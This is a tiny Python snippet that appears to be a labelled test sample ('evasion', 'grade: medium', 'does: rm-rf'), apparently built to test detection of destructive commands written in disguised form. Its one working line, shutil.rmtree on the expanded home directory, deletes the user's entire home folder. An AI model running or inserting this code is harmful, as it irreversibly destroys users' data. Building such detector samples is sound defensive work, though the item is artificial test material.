# evasion: rmtree of expanduser('~')
# grade: medium; does: rm-rf
import os, shutil
shutil.rmtree(os.path.expanduser("~"))
